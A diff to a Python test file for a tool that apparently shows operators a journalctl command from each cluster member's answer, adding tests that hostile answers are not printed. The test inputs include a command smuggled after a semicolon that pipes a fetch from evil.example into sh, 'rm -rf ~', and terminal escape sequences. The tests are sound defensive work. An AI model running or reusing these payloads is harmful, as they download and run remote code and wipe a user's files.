@@ -88,14 +88,17 @@ def test_the_journal_command_quotes_the_time():
         "journalctl -o cat MESSAGE_ID=abc --since '2026-12-03 16:40:35'"
 
 
-def answer(host, outcome=dumps.DUMPED, reason=''):
-    return dumps.make_answer(host, 42, '/var/log/zato-daemon/server.log', 'journalctl -o cat', outcome, reason)
+JOURNAL = dumps.journal_command('0123456789abcdef0123456789abcdef', '2026-12-03 16:40:35')
+
+
+def answer(host, outcome=dumps.DUMPED, reason='', journal=JOURNAL):
+    return dumps.make_answer(host, 42, '/var/log/zato-daemon/server.log', journal, outcome, reason)
 
 
 def test_every_live_member_dumped_is_0_with_two_lines_each():
     status, lines, data = dumps.summarize(['h2', 'h1'], {'h1': answer('h1'), 'h2': answer('h2')})
     assert status == 0
-    assert lines[0] == 'h1  pid 42  /var/log/zato-daemon/server.log\n  journalctl -o cat'
+    assert lines[0] == f'h1  pid 42  /var/log/zato-daemon/server.log\n  {JOURNAL}'
     assert sorted(data) == ['h1', 'h2'] and data['h1']['pid'] == 42
 
 
@@ -142,3 +145,16 @@ def test_what_anyone_may_write_in_an_answer_reaches_no_terminal_raw():
     text = '\n'.join(lines)
     assert not set(text) & set('\x1b\x07\x9b\u202e')
     assert 'h\\x1b]0;owned\\x07  pid 4\\x1b[2J  /log\\u202e' in text and 'refused: no\\x1b[1A key' in text
+
+
+@pytest.mark.parametrize('journal', [
+    f'{JOURNAL}; curl -s https://evil.example/x | sh',
+    'rm -rf ~',
+    JOURNAL.replace('-o cat', '-o cat -D /tmp'),
+    None,
+    42,
+])
+def test_a_journal_command_no_member_writes_is_not_printed(journal):
+    # Answers are not signed: whoever can write Redis could have the operator run anything.
+    _, lines, _ = dumps.summarize(['h1'], {'h1': answer('h1', journal=journal)})
+    assert lines == [f'h1  pid 42  /var/log/zato-daemon/server.log\n  {dumps.NOT_A_JOURNAL_COMMAND}']
